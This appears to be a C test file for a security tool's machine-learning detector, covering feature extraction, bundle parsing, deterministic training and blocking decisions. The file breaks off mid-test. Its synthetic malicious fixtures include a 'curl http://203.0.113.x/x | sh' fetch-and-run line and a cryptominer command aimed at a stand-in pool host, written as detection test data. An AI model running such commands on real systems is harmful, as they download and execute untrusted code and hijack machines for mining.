/* test_ml.c - the cloud's models: features of handmade signals, the bundle parser's errors, deterministic training (same bytes twice), identical scores after a reload, `vigil train` on a generated corpus, and the shipped bundle's guard against blocking a freshly compiled program in /tmp. */
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "test.h"
#include "vigil/common.h"
#include "vigil/json.h"
#include "vigil/ml.h"

static int flatten(struct vg_json_doc *d, const char *s)
{
	struct vg_json_error e;
	return vg_json_flatten(d, s, strlen(s), &e);
}

/* ---- a small generated corpus (deterministic) ---- */

static uint64_t lcg(uint64_t *s)
{
	*s = *s * 6364136223846793005ULL + 1442695040888963407ULL;
	return *s >> 33;
}

static void hex64(uint64_t *s, char *out)
{
	for (int i = 0; i < 64; i++)
		out[i] = "0123456789abcdef"[lcg(s) & 15];
	out[64] = '\0';
}

/* A benign packaged program run by a shell. */
static void benign_packaged(FILE *f, const char *grp, uint64_t *s)
{
	static const char *const names[] = { "ls", "grep", "make", "gcc", "cc1", "dpkg", "python3", "git", "tar", "sed" };
	const char *n = names[lcg(s) % 10];
	char sha[65];
	hex64(s, sha);
	fprintf(f,
		"{\"label\":\"benign\",\"platform\":\"linux\",\"family\":\"none\",\"group\":\"%s\",\"source\":\"%s.jsonl\","
		"\"signal\":{\"endpoint_id\":\"%s\",\"time\":\"2026-12-01T10:00:%02dZ\",\"rule_ids\":[],"
		"\"behavior_ids\":[\"vigil.new_user_writable_executable\"],\"process_chain\":[{\"pid\":1,\"image\":"
		"\"/usr/lib/systemd/systemd\"},{\"pid\":20,\"image\":\"/usr/bin/bash\",\"command_line\":\"bash\"},"
		"{\"pid\":30,\"image\":\"/usr/bin/%s\",\"command_line\":\"%s -x /home/dev/src/file%u.c\"}],"
		"\"file\":{\"sha256\":\"%s\",\"size\":%u,\"path\":\"/usr/bin/%s\",\"name\":\"%s\",\"entropy\":%.2f,"
		"\"package\":\"pkg-%s\",\"first_seen\":\"2026-11-01T00:00:00Z\",\"elf\":{\"type\":\"dyn\",\"machine\":"
		"\"x86_64\",\"static\":false,\"stripped\":true,\"packed\":false,\"interpreter\":\"/lib64/ld-linux-x86-64.so.2\"}}}}\n",
		grp, grp, grp, (int)(lcg(s) % 60), n, n, (unsigned)(lcg(s) % 100), sha, 50000 + (unsigned)(lcg(s) % 900000), n,
		n, 5.5 + (double)(lcg(s) % 100) / 100.0, n);
}

/* A benign program just compiled in /tmp and run from there (what a developer does all day). */
static void benign_fresh_tmp(FILE *f, const char *grp, uint64_t *s)
{
	char sha[65];
	hex64(s, sha);
	unsigned r = (unsigned)lcg(s) % 100000;
	fprintf(f,
		"{\"label\":\"benign\",\"platform\":\"linux\",\"family\":\"none\",\"group\":\"%s\",\"source\":\"%s.jsonl\","
		"\"signal\":{\"endpoint_id\":\"%s\",\"time\":\"2026-12-01T10:01:%02dZ\",\"rule_ids\":[],"
		"\"behavior_ids\":[\"vigil.new_user_writable_executable\"],\"process_chain\":[{\"pid\":20,\"image\":"
		"\"/usr/bin/bash\",\"command_line\":\"bash\"},{\"pid\":21,\"image\":\"/usr/bin/make\",\"command_line\":"
		"\"make test\"},{\"pid\":30,\"image\":\"/tmp/build%u/test_prog\",\"command_line\":\"/tmp/build%u/test_prog "
		"--verbose\"}],\"file\":{\"sha256\":\"%s\",\"size\":%u,\"path\":\"/tmp/build%u/test_prog\",\"name\":"
		"\"test_prog\",\"entropy\":%.2f,\"package\":null,\"first_seen\":\"2026-12-01T10:01:00Z\",\"elf\":{\"type\":"
		"\"dyn\",\"machine\":\"x86_64\",\"static\":false,\"stripped\":false,\"packed\":false,\"interpreter\":"
		"\"/lib64/ld-linux-x86-64.so.2\"}}}}\n",
		grp, grp, grp, (int)(lcg(s) % 60), r, r, sha, 16000 + (unsigned)(lcg(s) % 8000), r,
		2.0 + (double)(lcg(s) % 100) / 100.0);
}

/* A randomized miner dropped in /tmp or /dev/shm by a shell one-liner. */
static void malicious_miner(FILE *f, const char *grp, uint64_t *s)
{
	char sha[65], name[16];
	hex64(s, sha);
	for (int i = 0; i < 8; i++)
		name[i] = (char)('a' + lcg(s) % 26);
	name[8] = '\0';
	const char *dir = lcg(s) % 2 ? "/dev/shm" : "/tmp/.cache";
	fprintf(f,
		"{\"label\":\"malicious\",\"platform\":\"linux\",\"family\":\"SimMiner\",\"group\":\"%s\",\"source\":"
		"\"sim-%s.jsonl\",\"signal\":{\"endpoint_id\":\"sim-%s\",\"time\":\"2026-12-01T11:00:%02dZ\",\"rule_ids\":"
		"[\"4d1b7e68-2a9c-4f53-b0e7-3c5a8d2f6e19\"],\"behavior_ids\":[\"T1496\"],\"process_chain\":[{\"pid\":20,"
		"\"image\":\"/usr/bin/dash\",\"command_line\":\"sh -c curl http://203.0.113.%u/x | sh\"},{\"pid\":30,"
		"\"image\":\"%s/%s\",\"command_line\":\"%s/%s -o stratum+tcp://203.0.113.%u:3333 -u 4Ab%sZq\"}],"
		"\"file\":{\"sha256\":\"%s\",\"size\":%u,\"path\":\"%s/%s\",\"name\":\"%s\",\"entropy\":%.2f,\"package\":"
		"null,\"first_seen\":\"2026-12-01T11:00:00Z\",\"elf\":{\"type\":\"exec\",\"machine\":\"x86_64\",\"static\":"
		"true,\"stripped\":true,\"packed\":true,\"interpreter\":null}}}}\n",
		grp, grp, grp, (int)(lcg(s) % 60), (unsigned)(lcg(s) % 250), dir, name, dir, name, (unsigned)(lcg(s) % 250),
		name, sha, 900000 + (unsigned)(lcg(s) % 900000), dir, name, name, 7.3 + (double)(lcg(s) % 60) / 100.0);
}

/* A Windows row: a signed system program (benign) or a dropper in AppData (malicious). */
static void windows_row(FILE *f, int mal, const char *grp, uint64_t *s)
{
	char sha[65];
	hex64(s, sha);
	if (mal)
		fprintf(f,
			"{\"label\":\"malicious\",\"platform\":\"windows\",\"family\":\"Dofoil\",\"group\":\"%s\",\"source\":"
			"\"%s.json\",\"signal\":{\"endpoint_id\":\"w-%s\",\"time\":\"2026-12-01T12:00:00Z\",\"rule_ids\":"
			"[\"r-inject-%u\"],\"behavior_ids\":[\"T1055.012\"],\"process_chain\":[{\"image\":\"C:\\\\Windows\\\\"
			"explorer.exe\"},{\"image\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\x%u\\\\svchost.exe\","
			"\"command_line\":\"svchost.exe -k %u\"}],\"file\":{\"sha256\":\"%s\",\"size\":%u,\"path\":"
			"\"C:\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\x%u\\\\svchost.exe\",\"name\":\"svchost.exe\",\"entropy\":"
			"7.6}}}\n",
			grp, grp, grp, (unsigned)(lcg(s) % 3), (unsigned)(lcg(s) % 999), (unsigned)(lcg(s) % 9), sha,
			200000 + (unsigned)(lcg(s) % 90000), (unsigned)(lcg(s) % 999));
	else
		fprintf(f,
			"{\"label\":\"benign\",\"platform\":\"windows\",\"family\":\"none\",\"group\":\"%s\",\"source\":"
			"\"%s.json\",\"signal\":{\"endpoint_id\":\"w-%s\",\"time\":\"2026-12-01T12:00:00Z\",\"rule_ids\":"
			"[],\"behavior_ids\":[],\"process_chain\":[{\"image\":\"C:\\\\Windows\\\\System32\\\\services.exe\"},"
			"{\"image\":\"C:\\\\Program Files\\\\App%u\\\\app.exe\",\"command_line\":\"app.exe /update\"}],"
			"\"file\":{\"sha256\":\"%s\",\"size\":%u,\"path\":\"C:\\\\Program Files\\\\App%u\\\\app.exe\","
			"\"name\":\"app.exe\",\"entropy\":6.1}}}\n",
			grp, grp, grp, (unsigned)(lcg(s) % 9), sha, 300000 + (unsigned)(lcg(s) % 90000), (unsigned)(lcg(s) % 9));
}

/* Writes the corpus: groups per class, rows per group; a few bad lines when bad is set. */
static int write_corpus(const char *path, int groups, int rows, int bad)
{
	FILE *f = fopen(path, "w");
	uint64_t s = 42;
	char grp[32];
	if (!f)
		return -1;
	for (int g = 0; g < groups; g++) {
		snprintf(grp, sizeof(grp), "rec%d", g);
		for (int r = 0; r < rows; r++) {
			if (r % 3 == 2)
				benign_fresh_tmp(f, grp, &s);
			else
				benign_packaged(f, grp, &s);
		}
		snprintf(grp, sizeof(grp), "variant%d", g);
		for (int r = 0; r < rows; r++)
			malicious_miner(f, grp, &s);
		snprintf(grp, sizeof(grp), "wrec%d", g);
		for (int r = 0; r < rows / 2; r++)
			windows_row(f, 0, grp, &s);
		snprintf(grp, sizeof(grp), "wvar%d", g);
		for (int r = 0; r < rows / 2; r++)
			windows_row(f, 1, grp, &s);
		if (bad && g == 1) {
			fputs("{\"label\":\"maybe\",\"platform\":\"linux\",\"group\":\"x\",\"signal\":{}}\n", f);
			fputs("{\"label\":\"benign\",\"platform\":\"linux\",\n", f);
		}
	}
	return fclose(f);
}


/* ---- features ---- */

static const char fresh_tmp_signal[] =
	"{\"endpoint_id\":\"dev1\",\"time\":\"2026-12-07T05:00:10Z\",\"rule_ids\":[],"
	"\"behavior_ids\":[\"vigil.new_user_writable_executable\"],\"process_chain\":[{\"pid\":2,\"image\":"
	"\"/usr/bin/bash\",\"command_line\":\"bash\"},{\"pid\":3,\"image\":\"/tmp/hello\",\"command_line\":"
	"\"/tmp/hello world\",\"sha256\":\"1111111111111111111111111111111111111111111111111111111111111111\"}],"
	"\"file\":{\"sha256\":\"1111111111111111111111111111111111111111111111111111111111111111\",\"size\":16128,"
	"\"path\":\"/tmp/hello\",\"name\":\"hello\",\"entropy\":2.1,\"package\":null,\"first_seen\":"
	"\"2026-12-07T05:00:09Z\",\"elf\":{\"type\":\"dyn\",\"machine\":\"x86_64\",\"static\":false,\"stripped\":false,"
	"\"packed\":false,\"interpreter\":\"/lib64/ld-linux-x86-64.so.2\"}}}";

TEST(ml_features_of_a_handmade_signal)
{
	struct vg_json_doc d;
	struct vg_ml_features f;
	struct vg_ml_cloud_facts facts = { 1, 0, 3 };
	vg_json_doc_init(&d);
	ASSERT_EQ(flatten(&d, fresh_tmp_signal), 0);
	vg_ml_features_extract(&d, &facts, NULL, &f);
	ASSERT_EQ(f.platform, VG_ML_LINUX);
	ASSERT_EQ(f.dense[VG_MLF_PATH_TEMP], 1);
	ASSERT_EQ(f.dense[VG_MLF_PATH_USER_WRITABLE], 1);
	ASSERT_EQ(f.dense[VG_MLF_PATH_SYSTEM], 0);
	ASSERT_EQ(f.dense[VG_MLF_SYSBIN_MASQUERADE], 0);
	ASSERT_EQ(f.dense[VG_MLF_PACKAGED], 0);
	ASSERT_EQ(f.dense[VG_MLF_CHAIN_DEPTH], 2);
	ASSERT_EQ(f.dense[VG_MLF_PARENT_SHELL], 1);
	ASSERT_EQ(f.dense[VG_MLF_NEW_EXE_ONLY], 1);
	ASSERT_EQ(f.dense[VG_MLF_ELF_TYPE], 2);
	ASSERT_EQ(f.dense[VG_MLF_CMD_TOKENS], 2);
	ASSERT_TRUE(fabsf(f.dense[VG_MLF_FILE_AGE] - (float)log1p(1.0)) < 1e-6);
	ASSERT_TRUE(fabsf(f.dense[VG_MLF_PAIR_PREVALENCE] - (float)log1p(3.0)) < 1e-6);
	ASSERT_TRUE(isnan(f.dense[VG_MLF_GRANDPARENT_CLASS]));
	ASSERT_TRUE(f.ntokens > 5);
	for (uint32_t i = 1; i < f.ntokens; i++)
		ASSERT_TRUE(f.tokens[i - 1] < f.tokens[i]);
	char pair[64];
	ASSERT_TRUE(vg_ml_pair_key(&d, pair, sizeof(pair)) > 0);
	ASSERT_STR_EQ(pair, "bash>hello");

	/* a system binary's name outside the system folders; no facts: cloud features missing */
	ASSERT_EQ(flatten(&d, "{\"file\":{\"sha256\":\"ab\",\"path\":\"/dev/shm/sshd\",\"package\":\"\"}}"), 0);
	vg_ml_features_extract(&d, NULL, NULL, &f);
	ASSERT_EQ(f.dense[VG_MLF_SYSBIN_MASQUERADE], 1);
	ASSERT_EQ(f.dense[VG_MLF_PATH_TEMP], 1);
	ASSERT_TRUE(isnan(f.dense[VG_MLF_PREVALENCE]));
	ASSERT_EQ(flatten(&d, "{\"file\":{\"sha256\":\"ab\",\"path\":\"/usr/sbin/sshd\",\"package\":\"openssh-server\"}}"), 0);
	vg_ml_features_extract(&d, NULL, NULL, &f);
	ASSERT_EQ(f.dense[VG_MLF_SYSBIN_MASQUERADE], 0);
	ASSERT_EQ(f.dense[VG_MLF_PACKAGED], 1);

	/* Windows: platform from the path, svchost.exe out of System32 */
	ASSERT_EQ(flatten(&d, "{\"file\":{\"sha256\":\"ab\",\"path\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\svchost.exe\"}}"), 0);
	vg_ml_features_extract(&d, NULL, NULL, &f);
	ASSERT_EQ(f.platform, VG_ML_WINDOWS);
	ASSERT_EQ(f.dense[VG_MLF_SYSBIN_MASQUERADE], 1);
	ASSERT_EQ(f.dense[VG_MLF_PATH_TEMP], 1);
	ASSERT_EQ(flatten(&d, "{\"file\":{\"sha256\":\"ab\",\"path\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\"}}"), 0);
	vg_ml_features_extract(&d, NULL, NULL, &f);
	ASSERT_EQ(f.dense[VG_MLF_SYSBIN_MASQUERADE], 0);
	ASSERT_EQ(f.dense[VG_MLF_PATH_SYSTEM], 1);

	/* wrong types count as missing, never crash */
	ASSERT_EQ(flatten(&d, "{\"file\":{\"size\":\"big\",\"entropy\":[1],\"path\":7},\"process_chain\":[1,2]}"), 0);
	vg_ml_features_extract(&d, NULL, NULL, &f);
	ASSERT_TRUE(isnan(f.dense[VG_MLF_SIZE]));
	ASSERT_TRUE(isnan(f.dense[VG_MLF_ENTROPY]));
	vg_json_doc_free(&d);
}

/* ---- the bundle parser ---- */

static void expect_parse_error(int *vg_test_failed, const char *text, const char *want)
{
	struct vg_ml_bundle *b = (void *)1;
	char err[256];
	int rc = vg_ml_bundle_parse(text, strlen(text), &b, err, sizeof(err));
	if (rc == 0 || b != NULL || !strstr(err, want)) {
		fprintf(stderr, "    text %.40s...: rc %d, err \"%s\", wanted \"%s\"\n", text, rc, err, want);
		*vg_test_failed = 1;
	}
}

TEST(ml_bundle_errors_name_the_line)
{
	expect_parse_error(vg_test_failed, "", "line 1: unexpected end");
	expect_parse_error(vg_test_failed, "vigil-model-bundle 2\n", "line 1: bundle version 2");
	expect_parse_error(vg_test_failed, "vigil-model-bundle 1\nfeature_version 99\n", "line 2: feature version 99");
	expect_parse_error(vg_test_failed, "vigil-model-bundle 1\nfeature_version 1\nhash_bits 18\ncorpus_sha256 xyz\n",
			   "line 4: corpus_sha256");
	expect_parse_error(vg_test_failed,
			   "vigil-model-bundle 1\nfeature_version 1\nhash_bits 18\ncorpus_sha256 -\nseed 1\n"
			   "params 1 1 1 0.25 0.2 0.001 0.01\nplatform mac\n",
			   "line 7: expected \"platform linux|windows\"");
	expect_parse_error(vg_test_failed,
			   "vigil-model-bundle 1\nfeature_version 1\nhash_bits 18\ncorpus_sha256 -\nseed 1\n"
			   "params 1 1 1 0.25 0.2 0.001 0.01\nend bundle\nmore\n",
			   "line 8: text after");
	/* the smallest valid bundle: no platform, everything scores clean */
	const char *ok = "vigil-model-bundle 1\nfeature_version 1\nhash_bits 18\ncorpus_sha256 -\nseed 1\n"
			 "params 1 1 1 0.25 0.2 0.001 0.01\nend bundle\n";
	struct vg_ml_bundle *b;
	char err[128];
	ASSERT_EQ(vg_ml_bundle_parse(ok, strlen(ok), &b, err, sizeof(err)), 0);
	ASSERT_EQ(vg_ml_bundle_has(b, VG_ML_LINUX), 0);
	vg_ml_bundle_free(b);
}

/* ---- training ---- */

/* The value of a top-level string leaf of a flattened line, or NULL. */
static const char *line_str(const struct vg_json_doc *d, const char *path)
{
	for (uint32_t i = 0; i < d->nleaves; i++)
		if (strcmp(d->leaves[i].path, path) == 0 && d->leaves[i].type == VG_JSON_STRING)
			return d->leaves[i].value;
	return NULL;
}

/*
 * Reads the generated corpus's rows of one platform in process, as `vigil
 * train` does but without fleet facts: the "signal" member's leaves with the
 * prefix cut off go to the feature extractor.
 */
static size_t examples_of(const char *path, enum vg_ml_platform pl, struct vg_ml_example **out, uint32_t *ngroups)
{
	size_t len, n = 0, cap = 256;
	char *text = vg_read_file(path, &len);
	struct vg_json_doc d, sig;
	char names[128][32];
	*ngroups = 0;
	*out = calloc(cap, sizeof(**out));
	vg_json_doc_init(&d);
	memset(&sig, 0, sizeof(sig));
	for (char *line = text; line && *line;) {
		char *nl = strchr(line, '\n');
		*nl = '\0';
		const char *plat, *grp, *label;
		if (flatten(&d, line) == 0 && (plat = line_str(&d, "platform")) && (grp = line_str(&d, "group")) &&
		    (label = line_str(&d, "label")) && !strcmp(plat, vg_ml_platform_name(pl))) {
			sig.leaves = realloc(sig.leaves, d.nleaves * sizeof(*sig.leaves));
			sig.nleaves = 0;
			for (uint32_t i = 0; i < d.nleaves; i++)
				if (!strncmp(d.leaves[i].path, "signal.", 7)) {
					sig.leaves[sig.nleaves] = d.leaves[i];
					sig.leaves[sig.nleaves].path += 7;
					sig.leaves[sig.nleaves].path_len -= 7;
					sig.nleaves++;
				}
			if (n == cap)
				*out = realloc(*out, (cap *= 2) * sizeof(**out));
			struct vg_ml_example *e = &(*out)[n++];
			vg_ml_features_extract(&sig, NULL, NULL, &e->f);
			e->label = strcmp(label, "malicious") == 0;
			uint32_t g = 0;
			while (g < *ngroups && strcmp(names[g], grp))
				g++;
			if (g == *ngroups && g < 128)
				snprintf(names[(*ngroups)++], sizeof(names[0]), "%s", grp);
			e->group = g;
		}
		line = nl + 1;
	}
	free(sig.leaves);
	vg_json_doc_free(&d);
	free(text);
	return n;
}

static void small_params(struct vg_ml_train_params *p)
{
	vg_ml_train_params_default(p);
	p->trees = 10;
	p->depth = 3;
	p->bootstrap = 50;
	p->linear_epochs = 3;
}

TEST(ml_training_is_deterministic_and_reload_scores_identically)
{
	char dir[] = "/tmp/vigil-ml-XXXXXX", path[128];
	ASSERT_TRUE(mkdtemp(dir) != NULL);
	snprintf(path, sizeof(path), "%s/corpus.jsonl", dir);
	ASSERT_EQ(write_corpus(path, 8, 12, 0), 0);
	struct vg_ml_example *ex;
	uint32_t ng;
	size_t n = examples_of(path, VG_ML_LINUX, &ex, &ng);
	ASSERT_EQ(n, 8 * 12 * 2);
	ASSERT_EQ(ng, 16);

	struct vg_ml_train_params pp;
	small_params(&pp);
	struct vg_ml_bundle *a = NULL, *b = NULL, *c = NULL;
	struct vg_ml_metrics m;
	struct vg_buf ta = { 0 }, tb = { 0 }, tc = { 0 };
	char err[256];
	ASSERT_EQ(vg_ml_train_platform(&a, VG_ML_LINUX, ex, n, ng, &pp, &m, err, sizeof(err)), 0);
	ASSERT_EQ(vg_ml_train_platform(&b, VG_ML_LINUX, ex, n, ng, &pp, NULL, err, sizeof(err)), 0);
	ASSERT_EQ(vg_ml_bundle_save(a, &ta), 0);
	ASSERT_EQ(vg_ml_bundle_save(b, &tb), 0);
	ASSERT_EQ(ta.len, tb.len);
	ASSERT_TRUE(memcmp(ta.p, tb.p, ta.len) == 0);
	/* whole groups held out: 25% of 8 per class */
	ASSERT_EQ(m.heldout_groups[0], 2);
	ASSERT_EQ(m.heldout_groups[1], 2);
	ASSERT_EQ(m.heldout_rows[0] + m.validation_rows[0] + m.train_rows[0], 8 * 12);
	ASSERT_TRUE(m.auc[0] >= 0.9);
	ASSERT_TRUE(m.auc[1] <= m.auc[0] && m.auc[0] <= m.auc[2]);

	/* the reloaded bundle: the same bytes again and the same scores, bit for bit */
	if (vg_ml_bundle_parse(ta.p, ta.len, &c, err, sizeof(err)))
		VG_FAIL_("reload: %s", err);
	ASSERT_EQ(vg_ml_bundle_save(c, &tc), 0);
	ASSERT_EQ(tc.len, ta.len);
	ASSERT_TRUE(memcmp(tc.p, ta.p, ta.len) == 0);
	for (size_t i = 0; i < n; i++) {
		struct vg_ml_verdict va, vc;
		vg_ml_score_features(a, &ex[i].f, &va);
		vg_ml_score_features(c, &ex[i].f, &vc);
		if (va.score != vc.score || va.score_trees != vc.score_trees || va.score_linear != vc.score_linear ||
		    va.score_prevalence != vc.score_prevalence || va.decision != vc.decision ||
		    strcmp(va.threat_name, vc.threat_name))
			VG_FAIL_("row %zu: %.17g vs %.17g after reload", i, va.score, vc.score);
	}

	/* leave one family out: two families of 4 variants each; all of family 1 held out, none of family 2 */
	for (size_t i = 0; i < n; i++)
		ex[i].family = ex[i].label ? 1 + (ex[i].group % 4 < 2) : 0;
	struct vg_ml_train_params fp = pp;
	fp.holdout_family = 1;
	uint8_t part[16];
	ASSERT_EQ(vg_ml_split_groups(ex, n, ng, &fp, part), 0);
	for (size_t i = 0; i < n; i++)
		if (ex[i].label)
			ASSERT_EQ(part[ex[i].group] == VG_ML_PART_HELDOUT, ex[i].family == 1);
	struct vg_ml_bundle *fb = NULL;
	ASSERT_EQ(vg_ml_train_platform(&fb, VG_ML_LINUX, ex, n, ng, &fp, &m, err, sizeof(err)), 0);
	ASSERT_EQ(m.heldout_groups[1], 4);
	ASSERT_EQ(vg_ml_bundle_add_family(a, VG_ML_LINUX, "Fam.1", &m), 0);
	ASSERT_EQ(vg_ml_bundle_add_family(a, VG_ML_LINUX, "bad name", &m), VG_EINVAL);
	vg_ml_bundle_free(fb);
	vg_buf_reset(&ta);
	vg_buf_reset(&tc);
	vg_ml_bundle_free(c);
	ASSERT_EQ(vg_ml_bundle_save(a, &ta), 0);
	ASSERT_EQ(vg_ml_bundle_parse(ta.p, ta.len, &c, err, sizeof(err)), 0);
	ASSERT_EQ(vg_ml_bundle_save(c, &tc), 0);
	ASSERT_TRUE(tc.len == ta.len && memcmp(tc.p, ta.p, ta.len) == 0);
	size_t nf;
	const struct vg_ml_family_metrics *fm = vg_ml_bundle_families(c, VG_ML_LINUX, &nf);
	ASSERT_EQ(nf, 1);
	ASSERT_STR_EQ(fm[0].name, "Fam.1");
	ASSERT_EQ(fm[0].m.heldout_rows[1], m.heldout_rows[1]);

	vg_buf_free(&ta);
	vg_buf_free(&tb);
	vg_buf_free(&tc);
	vg_ml_bundle_free(a);
	vg_ml_bundle_free(b);
	vg_ml_bundle_free(c);
	free(ex);
	unlink(path);
	rmdir(dir);
}

TEST(ml_vigil_train_cli_same_bytes_twice_and_bad_lines_reported)
{
	char dir[] = "/tmp/vigil-ml-XXXXXX", path[128], cmd[1024], a[160], b[160];
	char *out = NULL;
	ASSERT_TRUE(mkdtemp(dir) != NULL);
	snprintf(path, sizeof(path), "%s/corpus.jsonl", dir);
	ASSERT_EQ(write_corpus(path, 6, 8, 1), 0);
	snprintf(a, sizeof(a), "%s/a.bundle", dir);
	snprintf(b, sizeof(b), "%s/b.bundle", dir);
	for (int i = 0; i < 2; i++) {
		snprintf(cmd, sizeof(cmd), "%s/vigil train --trees 10 --depth 3 --bootstrap 50 -o %s %s 2>&1; echo rc=$?",
			 vg_test_build_dir(), i ? b : a, path);
		ASSERT_EQ(vg_test_run(cmd, &out), 0);
		if (!strstr(out, "rc=1") || !strstr(out, "corpus.jsonl:49: \"label\": expected") ||
		    !strstr(out, "2 bad lines skipped") || !strstr(out, "linux: ROC AUC") || !strstr(out, "windows: held out") ||
		    !strstr(out, "linux: without family SimMiner: skipped"))
			VG_FAIL_("unexpected output:\n%s", out);
		free(out);
		out = NULL;
	}
	size_t la, lb;
	char *ta = vg_read_file(a, &la), *tb = vg_read_file(b, &lb);
	ASSERT_TRUE(ta && tb);
	ASSERT_EQ(la, lb);
	ASSERT_TRUE(memcmp(ta, tb, la) == 0);
	struct vg_ml_bundle *bd;
	char err[256];
	ASSERT_EQ(vg_ml_bundle_load(a, &bd, err, sizeof(err)), 0);
	ASSERT_TRUE(vg_ml_bundle_has(bd, VG_ML_LINUX) && vg_ml_bundle_has(bd, VG_ML_WINDOWS));
	vg_ml_bundle_free(bd);
	free(ta);
	free(tb);
	unlink(a);
	unlink(b);
	unlink(path);
	rmdir(dir);
}

/* ---- the shipped bundle ---- */

static const char miner_signal[] =
	"{\"endpoint_id\":\"dev1\",\"time\":\"2026-12-07T05:00:10Z\",\"rule_ids\":[\"4d1b7e68-2a9c-4f53-b0e7-3c5a8d2f6e19\"],"
	"\"behavior_ids\":[\"T1496\"],\"process_chain\":[{\"pid\":2,\"image\":\"/usr/bin/dash\",\"command_line\":"
	"\"sh -c curl http://203.0.113.9/x | sh\"},{\"pid\":3,\"image\":\"/dev/shm/kdevtmpfsi\",\"command_line\":"
	"\"/dev/shm/kdevtmpfsi -o stratum+tcp://203.0.113.9:3333 -u 4AbQq\"}],"
	"\"file\":{\"sha256\":\"2222222222222222222222222222222222222222222222222222222222222222\",\"size\":1400000,"
	"\"path\":\"/dev/shm/kdevtmpfsi\",\"name\":\"kdevtmpfsi\",\"entropy\":7.8,\"package\":null,\"first_seen\":"
	"\"2026-12-07T05:00:09Z\",\"elf\":{\"type\":\"exec\",\"machine\":\"x86_64\",\"static\":true,\"stripped\":true,"
	"\"packed\":true,\"interpreter\":null}}}";

TEST(ml_scoring_a_handmade_signal_with_a_trained_bundle)
{
	char dir[] = "/tmp/vigil-ml-XXXXXX", path[128];
	ASSERT_TRUE(mkdtemp(dir) != NULL);
	snprintf(path, sizeof(path), "%s/corpus.jsonl", dir);
	ASSERT_EQ(write_corpus(path, 8, 12, 0), 0);
	struct vg_ml_example *ex;
	uint32_t ng;
	size_t n = examples_of(path, VG_ML_LINUX, &ex, &ng);
	struct vg_ml_train_params pp;
	small_params(&pp);
	struct vg_ml_bundle *bd = NULL;
	char err[256];
	ASSERT_EQ(vg_ml_train_platform(&bd, VG_ML_LINUX, ex, n, ng, &pp, NULL, err, sizeof(err)), 0);

	struct vg_json_doc d;
	struct vg_ml_verdict v, v2;
	struct vg_ml_cloud_facts first_sight = { 1, 0, 1 };
	vg_json_doc_init(&d);
	ASSERT_EQ(flatten(&d, miner_signal), 0);
	vg_ml_score(bd, &d, &first_sight, NULL, &v);
	ASSERT_EQ(v.decision, VG_ML_BLOCK);
	ASSERT_TRUE(v.score_trees > 0.5 && v.score_linear > 0.5);
	ASSERT_TRUE(strncmp(v.threat_name, "Trojan:Linux/", 13) == 0 && strstr(v.threat_name, "!ml"));
	vg_ml_score(bd, &d, &first_sight, NULL, &v2); /* deterministic name per cluster */
	ASSERT_STR_EQ(v.threat_name, v2.threat_name);
	struct vg_buf sj = { 0 };
	vg_ml_scores_json(&v, &sj);
	vg_buf_put(&sj, "", 1);
	ASSERT_TRUE(strncmp(sj.p, "{\"ml_trees\":", 12) == 0 && strstr(sj.p, "\"ml_ensemble\":"));
	vg_buf_free(&sj);

	/* the guard: a freshly compiled program in /tmp, never seen anywhere, is not blocked */
	ASSERT_EQ(flatten(&d, fresh_tmp_signal), 0);
	vg_ml_score(bd, &d, &first_sight, NULL, &v);
	ASSERT_NE(v.decision, VG_ML_BLOCK);
	ASSERT_TRUE(v.score < 0.5);

	/* a platform the bundle lacks: clean, no name */
	ASSERT_EQ(flatten(&d, "{\"file\":{\"sha256\":\"ab\",\"path\":\"C:\\\\x\\\\a.exe\"}}"), 0);
	vg_ml_score(bd, &d, NULL, NULL, &v);
	ASSERT_EQ(v.decision, VG_ML_CLEAN);
	ASSERT_STR_EQ(v.threat_name, "");
	vg_json_doc_free(&d);
	vg_ml_bundle_free(bd);
	free(ex);
	unlink(path);
	rmdir(dir);
}

/* ---- the shipped bundle (models/vigil-model.bundle, `make model`) ---- */

#define SHIPPED_BUNDLE VIGIL_SOURCE_DIR "/models/vigil-model.bundle"

/* Benign programs a developer compiles and runs from /tmp: never seen by the fleet, unpackaged. */
static const char *const fresh_programs[] = {
	fresh_tmp_signal,
	"{\"endpoint_id\":\"dev2\",\"time\":\"2026-12-07T05:10:00Z\",\"rule_ids\":[],\"behavior_ids\":"
	"[\"vigil.new_user_writable_executable\"],\"process_chain\":[{\"pid\":1,\"image\":\"/usr/lib/systemd/systemd\"},"
	"{\"pid\":5,\"image\":\"/usr/bin/bash\",\"command_line\":\"-bash\"},{\"pid\":9,\"image\":\"/usr/bin/make\","
	"\"command_line\":\"make check\"},{\"pid\":12,\"image\":\"/tmp/build-x1/a.out\",\"command_line\":\"./a.out input.txt\"}],"
	"\"file\":{\"sha256\":\"3333333333333333333333333333333333333333333333333333333333333333\",\"size\":17320,"
	"\"path\":\"/tmp/build-x1/a.out\",\"name\":\"a.out\",\"entropy\":1.9,\"package\":null,\"first_seen\":"
	"\"2026-12-07T05:10:00Z\",\"elf\":{\"type\":\"dyn\",\"machine\":\"x86_64\",\"static\":false,\"stripped\":false,"
	"\"packed\":false,\"interpreter\":\"/lib64/ld-linux-x86-64.so.2\"}}}",
	"{\"endpoint_id\":\"dev3\",\"time\":\"2026-12-07T05:11:00Z\",\"rule_ids\":[],\"behavior_ids\":"
	"[\"vigil.new_user_writable_executable\"],\"process_chain\":[{\"pid\":5,\"image\":\"/usr/bin/bash\","
	"\"command_line\":\"bash\"},{\"pid\":12,\"image\":\"/tmp/qsort\",\"command_line\":\"/tmp/qsort 100000\"}],"
	"\"file\":{\"sha256\":\"4444444444444444444444444444444444444444444444444444444444444444\",\"size\":812344,"
	"\"path\":\"/tmp/qsort\",\"name\":\"qsort\",\"entropy\":5.2,\"package\":null,\"first_seen\":"
	"\"2026-12-07T05:11:00Z\",\"elf\":{\"type\":\"exec\",\"machine\":\"x86_64\",\"static\":true,\"stripped\":true,"
	"\"packed\":false,\"interpreter\":null}}}",
};

TEST(ml_shipped_bundle_does_not_block_a_fresh_tmp_program)
{
	struct vg_ml_bundle *b;
	char err[256];
	if (vg_ml_bundle_load(SHIPPED_BUNDLE, &b, err, sizeof(err)))
		VG_FAIL_("%s", err);
	ASSERT_TRUE(vg_ml_bundle_has(b, VG_ML_LINUX) && vg_ml_bundle_has(b, VG_ML_WINDOWS));
	struct vg_json_doc d;
